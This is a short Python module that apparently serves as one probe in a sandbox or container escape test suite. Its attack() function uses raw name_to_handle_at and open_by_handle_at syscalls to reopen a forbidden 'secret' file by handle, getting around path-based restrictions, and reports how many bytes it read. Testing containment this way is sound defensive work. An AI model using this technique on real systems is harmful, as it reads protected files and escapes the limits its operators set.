"""Opens a file by its handle: name_to_handle_at, open_by_handle_at."""

import ctypes
import os


def attack():
    handle = ctypes.create_string_buffer((128).to_bytes(4, "little") + bytes(132), 136)
    mount = ctypes.c_int()
    c(303, -100, TARGETS["readable_secret"].encode(), handle, ctypes.byref(mount), 0)
    for place in (os.path.dirname(TARGETS["readable_secret"]), ".", "/usr"):
        try:
            folder = os.open(place, os.O_RDONLY)
        except OSError:
            continue
        try:
            descriptor = c(304, folder, handle, os.O_RDONLY)
            data = os.read(descriptor, 100)
            os.close(descriptor)
            return f"{len(data)} bytes by handle"
        except OSError:
            continue
        finally:
            os.close(folder)
    return "name_to_handle_at told the handle of a forbidden file"
